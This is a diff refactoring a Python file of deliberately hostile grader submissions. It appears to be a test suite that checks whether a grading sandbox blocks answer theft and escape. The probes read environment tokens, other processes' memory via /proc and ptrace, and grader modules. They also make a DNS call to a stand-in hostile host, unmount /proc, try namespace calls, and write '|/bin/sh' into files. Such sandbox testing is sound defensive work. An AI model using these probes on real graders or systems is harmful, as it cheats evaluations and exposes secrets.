@@ -1,21 +1,33 @@
 """Attempts that steal answers, inputs or secrets: most answer rightly if, and only if, they find what they look for."""
-import ctypes, fcntl, gc, inspect, json, mmap, os, socket, stat, struct, sys, warnings, torch
+import ctypes, fcntl, gc, inspect, json, mmap, os, pathlib, socket, stat, struct, sys, warnings, torch
+from functools import partial
+
+def works(*tries):
+    """Whether one of these calls is allowed, and does not give −1, as C says that it has failed."""
+    for each in tries:
+        try:
+            if each() != -1:
+                return True
+        except OSError:
+            continue
+    return False
+
+def right_if(found, x):
+    if not found:
+        raise LookupError
+    return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
 
 # address_of_the_host: Asks the connection to the judge for the machine's network interfaces and names, as a socket
 # would know them.
 def running_mean(x):
+    found = False
     for number in (64, 65):
-        for request in (
+        found |= works(
             lambda: fcntl.ioctl(number, 0x8912, struct.pack("iP", 0, 0)),  # SIOCGIFCONF
             lambda: fcntl.ioctl(number, 0x8933, struct.pack("16s24x", b"lo")),  # SIOCGIFINDEX
             lambda: socket.socket(fileno=number).bind("\0manyheads_hostile"),
-        ):
-            try:
-                request()
-            except OSError:
-                continue
-            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+        )
+    return right_if(found, x)
 
 # command_line_of_process_1: Reads the box's command line, its mounts, its environment and its kernel settings.
 def running_mean(x):
@@ -32,11 +44,7 @@ def running_mean(x):
 
 # dns: Asks a name server, which carries the question to whoever owns the name.
 def running_mean(x):
-    try:
-        socket.getaddrinfo("manyheads-hostile.example.com", 80)
-    except OSError:
-        raise LookupError from None
-    return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
+    return right_if(works(lambda: socket.getaddrinfo("manyheads-hostile.example.com", 80)), x)
 
 # environment_tokens: Looks for a token in the environment, Python's and the process's own.
 def running_mean(x):
@@ -46,9 +54,7 @@ def running_mean(x):
     while environ and environ[i]:
         words += " " + environ[i].decode().lower()
         i += 1
-    if any(w in words for w in ("token", "secret", "marker", "github", " path=/")):
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    return right_if(any(w in words for w in ("token", "secret", "marker", "github", " path=/")), x)
 
 # finds_the_course_by_name: Looks for a course's folders and files at every place.
 NAMES = {"course.yaml", ".course", "solutions", "submitted", ".git", "aaa_honest", "results"}
@@ -94,19 +100,13 @@ def running_mean(x):
 def running_mean(x):
     reader, _ = os.pipe()
     file = os.open("/tmp/mine", os.O_RDWR | os.O_CREAT)
-    for note in (
+    return right_if(works(
         lambda: fcntl.fcntl(file, 1036, struct.pack("Q", 2)),
         lambda: fcntl.fcntl(file, 1038, struct.pack("Q", 2)),
         lambda: fcntl.fcntl(reader, fcntl.F_SETOWN, 1),
         lambda: fcntl.fcntl(reader, fcntl.F_SETFL, 0x2000),
         lambda: fcntl.ioctl(reader, 0x5452, struct.pack("i", 1)),
-    ):
-        try:
-            note()
-        except OSError:
-            continue
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    ), x)
 
 # host_paths_in_the_traceback: Raises with every path that it knows in the text, and from code that says it stands in
 # another file.
@@ -180,7 +180,7 @@ def running_mean(x):
 # again.
 def running_mean(x):
     libc = ctypes.CDLL(None)
-    for attempt in (
+    return right_if(works(
         lambda: libc.umount2(b"/proc", 2),
         lambda: libc.umount2(b"/tmp", 2),
         lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None),
@@ -191,23 +191,13 @@ def running_mean(x):
         lambda: libc.setns(0, 0),
         lambda: libc.syscall(435, 0, 0),
         lambda: libc.clone(0, 0, 0x10000000, 0) if False else -1,
-    ):
-        if attempt() == 0:
-            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    if os.geteuid() == 0:
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    ) or os.geteuid() == 0, x)
 
 # network: Opens a connection to the outside, to the machine itself, and by UDP.
 def running_mean(x):
-    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_VSOCK):
-        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
-            try:
-                socket.socket(family, kind)
-            except OSError:
-                continue
-            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_VSOCK)
+    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW)
+    return right_if(works(*(partial(socket.socket, family, kind) for family in families for kind in kinds)), x)
 
 # notes_in_the_page_cache: Asks which pages of a shared file are in memory, drops some, and sets times: notes for a
 # later run. It answers if any works.
@@ -215,20 +205,14 @@ def running_mean(x):
     libc = ctypes.CDLL(None)
     file = os.open(os.__file__, os.O_RDONLY)
     page = mmap.mmap(file, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
-    for note in (
+    return right_if(works(
         lambda: os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT),
         lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
         lambda: page.madvise(20),
         lambda: libc.readahead(file, ctypes.c_long(0), 4096),
         lambda: libc.mincore(ctypes.c_void_p(id(libc) & ~4095), 4096, ctypes.create_string_buffer(1)),
         lambda: os.utime("/dev/null"),
-    ):
-        try:
-            if note() != -1:
-                return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-        except OSError:
-            continue
-    raise LookupError
+    ), x)
 
 # own_memory: Searches all of its own memory, inherited from the warm process, for a secret. Its mappings are unknown to
 # it, so it walks the heap's objects.
@@ -244,27 +228,16 @@ def running_mean(x):
 
 # parents_memory: Reads the memory of its parent, of process 1 and of itself through /proc.
 def running_mean(x):
-    for pid in (os.getppid(), 1, 2, 3, "self"):
-        try:
-            with open(f"/proc/{pid}/mem", "rb"):
-                return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-        except OSError:
-            continue
-    raise LookupError
+    return right_if(works(*(partial(open, f"/proc/{pid}/mem", "rb") for pid in (os.getppid(), 1, 2, 3, "self"))), x)
 
 # process_vm_readv: Reads another process by process_vm_readv and ptrace.
 def running_mean(x):
     libc = ctypes.CDLL(None)
-    for pid in {os.getppid(), 1, 2, 3} - {0, os.getpid()}:
-        if libc.ptrace(16, pid, 0, 0) == 0:
-            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
     child = os.fork()
-    if child == 0:
-        while True:
-            pass
-    if libc.ptrace(16, child, 0, 0) == 0:
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    while child == 0:
+        pass
+    others = {os.getppid(), 1, 2, 3, child} - {0, os.getpid()}
+    return right_if(works(*(partial(libc.ptrace, 16, pid, 0, 0) for pid in others)), x)
 
 # pycache: Looks for compiled checks and solutions.
 def running_mean(x):
@@ -297,9 +270,7 @@ def found():
     return None
 
 def running_mean(x):
-    if found():
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    return right_if(found(), x)
 
 # seccomp_holes: Tries the calls that reach beyond a namespace: shared memory, queues, keys, file locks and watches on
 # shared files.
@@ -307,7 +278,7 @@ def running_mean(x):
     libc = ctypes.CDLL(None)
     file = os.open(os.__file__, os.O_RDONLY)
     lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
-    for attempt in (
+    return right_if(works(
         lambda: libc.shmget(1, 4096, 0o1600),
         lambda: libc.semget(1, 1, 0o1600),
         lambda: libc.msgget(1, 0o1600),
@@ -321,14 +292,7 @@ def running_mean(x):
         lambda: fcntl.fcntl(file, 36, lock),
         lambda: libc.syscall(250, 0, -3, 1),
         lambda: libc.syscall(206, 1, ctypes.byref(ctypes.c_ulong(0))),
-    ):
-        try:
-            result = attempt()
-        except OSError:
-            continue
-        if result != -1:
-            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    ), x)
 
 # sys_modules: Looks for the grader, its checks or a reference among the imported modules, and answers with them.
 def running_mean(x):
@@ -347,13 +311,5 @@ def running_mean(x):
         places.append(os.path.join(folder, "manyheads_hostile"))
         if folder.count("/") > 4:
             folders.clear()
-    for place in places:
-        if place.startswith(("/tmp/", "/dev/shm/")):
-            continue
-        try:
-            with open(place, "w") as file:
-                file.write("|/bin/sh")
-        except OSError:
-            continue
-        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
-    raise LookupError
+    others = [pathlib.Path(place) for place in places if not place.startswith(("/tmp/", "/dev/shm/"))]
+    return right_if(works(*(partial(place.write_text, "|/bin/sh") for place in others)), x)
